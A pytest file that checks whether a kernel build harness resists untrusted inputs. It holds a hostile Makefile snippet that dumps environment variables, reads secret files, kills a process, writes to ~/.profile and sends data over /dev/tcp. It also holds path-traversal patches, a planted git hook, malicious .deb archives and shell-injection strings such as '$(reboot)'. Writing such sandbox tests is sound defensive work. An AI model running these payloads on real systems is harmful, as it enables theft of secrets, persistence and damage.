# SPDX-License-Identifier: GPL-2.0-or-later
"""Attacks by untrusted Makefiles, patches, packages and scenarios.

SECURITY.md lists the tests by threat.
"""

from __future__ import annotations

import io
import os
import shutil
import socket
import tarfile
from contextlib import suppress
from pathlib import Path

import pytest
from fake_sources import Builder, Listener, builder, git, git_fake
from machines import scenario_of

from harness.core.cache import Store
from harness.core.errors import HarnessError, UnbuildableError, UsageError
from harness.core.progress import SilentProgress
from harness.debian.apt import SUITES, open_apt, unpack
from harness.debian.mirror import MIRROR_VARIABLE
from harness.kernels.build.apply_series import series_commit
from harness.kernels.build.sandbox import find_sandbox
from harness.kernels.build.series import read_series
from harness.kernels.build.tree import look

__all__ = ["builder"]

# Run when the Makefile is read, more than once.
ATTACK = """
LOOT := $(shell {{ env; cat {secret}; ls -d /proc/{victim}; kill -9 {victim}; \
  cat {outside}/neighbour; echo owned > {outside}/owned; echo owned > $(srctree)/owned; \
  echo owned > {home}/.profile; bash -c 'echo owned > /dev/tcp/127.0.0.1/{port}'; \
  }} >> $(O)/loot 2>&1)
"""


def test_a_makefile_that_attacks(
    builder: Builder, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    if find_sandbox().bwrap is None:
        pytest.skip(find_sandbox().note)
    outside, home = tmp_path / "outside", tmp_path / "home"
    for folder in (outside, home):
        folder.mkdir()
    (outside / "neighbour").write_text("hunter2")
    (home / "secret").write_text("hunter2")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("API_TOKEN", "hunter2")
    tree = git_fake(tmp_path / "linux")
    before = sorted(tree.rglob("[!.]*"))
    with socket.create_server(("127.0.0.1", 0)) as listener:
        attack = ATTACK.format(
            secret=home / "secret",
            outside=outside,
            home=home,
            victim=os.getpid(),
            port=listener.getsockname()[1],
        )
        makefile = tree / "Makefile"
        makefile.write_text(makefile.read_text() + attack)
        builder(f"build:{tree}")
        listener.setblocking(False)
        with pytest.raises(BlockingIOError):
            listener.accept()
    loot = [path.read_text(errors="replace") for path in builder.store.root.rglob("loot")]
    assert loot and "PATH=" in loot[0], "the attack has run"
    assert "hunter2" not in "".join(loot)
    assert f"/proc/{os.getpid()}\n" not in "".join(loot)
    assert [path.name for path in outside.iterdir()] == ["neighbour"]
    assert [path.name for path in home.iterdir()] == ["secret"]
    assert sorted(tree.rglob("[!.]*")) == before
    assert not list(builder.store.root.rglob("owned"))


def mail(diff: str) -> str:
    return f"From: A <a@localhost>\nSubject: [PATCH] attack\n\n---\n{diff}\n-- \n2.0\n"


def added(path: str, text: str, mode: str = "100644") -> str:
    end = "" if mode == "100644" else "\\ No newline at end of file\n"
    return (
        f"diff --git a/{path} b/{path}\nnew file mode {mode}\nindex 0000000..1234567\n"
        f"--- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n+{text}\n{end}"
    )


@pytest.mark.parametrize(
    "diffs",
    [
        [added("../owned", "owned")],
        [added("drivers/../../../owned", "owned")],
        [added("{root}/owned", "owned").replace("a//", "/").replace("b//", "/")],
        [added(".git/hooks/post-checkout", "touch {root}/owned")],
        [added("away", "{root}", "120000"), added("away/owned", "owned")],
        [added("away", "../../..", "120000") + added("away/owned", "owned")],
    ],
)
def test_a_patch_that_leaves_the_tree(tmp_path: Path, diffs: list[str]) -> None:
    tree, folder, store = git_fake(tmp_path / "linux"), tmp_path / "series", tmp_path / "store"
    folder.mkdir()
    for number, diff in enumerate(diffs):
        text = mail(diff).replace("{root}", str(tmp_path))
        (folder / f"{number:04}-attack.patch").write_text(text)
    source, state = look(str(tree), Store(store), Listener(), "build:x")
    with pytest.raises(UnbuildableError, match="does not apply"):
        series_commit(source, state, read_series(folder), Listener())
    assert not [path for path in tmp_path.rglob("owned") if path.exists()]
    assert not [path for path in tmp_path.rglob("post-checkout") if path.exists()]
    assert git(tree, "status", "--porcelain") == ""


def test_a_series_names_no_file_outside_its_folder(tmp_path: Path) -> None:
    folder = tmp_path / "series"
    (folder / "a").mkdir(parents=True)
    (tmp_path / "secret.patch").write_text(mail(added("x", "hunter2")))
    for name in ("../secret.patch", "/etc/passwd", "a/../../secret.patch"):
        for listed, text in (("series.yaml", f"order: [{name}]\n"), ("series", f"{name}\n")):
            (folder / listed).write_text(text)
            with pytest.raises(UsageError, match="outside the series' folder"):
                read_series(folder)
            (folder / listed).unlink()


def package(path: Path, *members: tuple[tarfile.TarInfo, bytes]) -> Path:
    """A .deb: an `ar` archive of a version and two tarballs."""

    def tarball(content: tuple[tuple[tarfile.TarInfo, bytes], ...]) -> bytes:
        data = io.BytesIO()
        with tarfile.open(fileobj=data, mode="w") as archive:
            for info, body in content:
                info.size = len(body)
                archive.addfile(info, io.BytesIO(body))
        return data.getvalue()

    fields = b"Package: evil\nVersion: 1\nArchitecture: all\nMaintainer: A\nDescription: x\n"
    parts = (
        ("debian-binary", b"2.0\n"),
        ("control.tar", tarball(((tarfile.TarInfo("./control"), fields),))),
        ("data.tar", tarball(members)),
    )
    text = b"!<arch>\n"
    for name, data in parts:
        text += f"{name:<16}{0:<12}{0:<6}{0:<6}{'100644':<8}{len(data):<10}`\n".encode() + data
        text += b"\n" * (len(data) % 2)
    path.write_bytes(text)
    return path


def link(name: str, target: str) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = tarfile.SYMTYPE, target
    return info, b""


@pytest.mark.skipif(shutil.which("dpkg-deb") is None, reason="dpkg-deb is not installed")
def test_a_package_that_leaves_its_folder(tmp_path: Path) -> None:
    into = tmp_path / "into"
    for members in (
        [(tarfile.TarInfo("./fine"), b"x"), (tarfile.TarInfo("../owned"), b"x")],
        [(tarfile.TarInfo("./fine"), b"x"), (tarfile.TarInfo(f"{tmp_path}/owned"), b"x")],
        [
            (tarfile.TarInfo("./fine"), b"x"),
            link("./away", str(tmp_path)),
            (tarfile.TarInfo("./away/owned"), b"x"),
        ],
    ):
        shutil.rmtree(into, ignore_errors=True)
        into.mkdir()
        with suppress(HarnessError):
            unpack(package(tmp_path / "evil.deb", *members), into)
        assert (into / "fine").exists(), "the package was read at all"
        assert not (tmp_path / "owned").exists()


@pytest.mark.skipif(shutil.which("apt-get") is None, reason="apt is not installed")
def test_an_unsigned_archive(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for suite in SUITES:
        index = tmp_path / "mirror" / "dists" / suite / "main" / "binary-amd64" / "Packages"
        index.parent.mkdir(parents=True)
        index.write_text("")
        release = f"Suite: {suite}\nCodename: {suite}\nComponents: main\nArchitectures: amd64\n"
        dated = "Date: Thu, 01 Jan 2026 00:00:00 UTC\nMD5Sum:\nSHA256:\n"
        empty = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
        listed = f" {empty} 0 main/binary-amd64/Packages\n"
        index.parents[2].joinpath("Release").write_text(release + dated + listed)
    monkeypatch.setenv(MIRROR_VARIABLE, f"file:{tmp_path}/mirror")
    with (
        pytest.raises(UsageError, match="cannot fetch Debian's package lists") as caught,
        open_apt(Store(tmp_path / "store"), SilentProgress()),
    ):
        raise AssertionError
    assert "is not signed" in caught.value.message


WORDS = (
    "kmem; reboot",
    "$(reboot)",
    "`reboot`",
    "kmem\nreboot",
    "-rf",
    "../x",
    "a b",
    "",
    "ä",
    "'",
)
BIND = {"bus": "platform", "driver": "hmem_platform", "device": "hmem_platform.0"}


def test_no_word_of_a_scenario_reaches_a_shell() -> None:
    for word in WORDS:
        steps: list[dict[str, object]] = [
            {"unload": word},
            {"reload": ["kmem", word]},
            {"offline": word},
            {"reconfigure": "sr0", "mode": word},
        ]
        steps += [{"bind": BIND | {field: word}} for field in BIND]
        guests: list[dict[str, object]] = [
            {"load": [word]},
            {"load": [], "missing": [word]},
            {"load": [], "async": [word]},
        ]
        guests += [{"load": [], "then": [step]} for step in steps]
        for guest in guests:
            with pytest.raises(UsageError, match=r"made_up\.yaml"):
                scenario_of(guest=guest)


def test_no_parameter_of_the_kernel_becomes_an_option_of_qemu() -> None:
    for word in (
        "a b", "a\n-drive file=/etc/passwd", "a\u2028-drive", "a\x85-drive", "a\x0b-x", "ä", "",
    ):  # fmt: skip
        with pytest.raises(UsageError, match=r"kernel\.cmdline"):
            scenario_of(kernel={"cmdline": [word]})
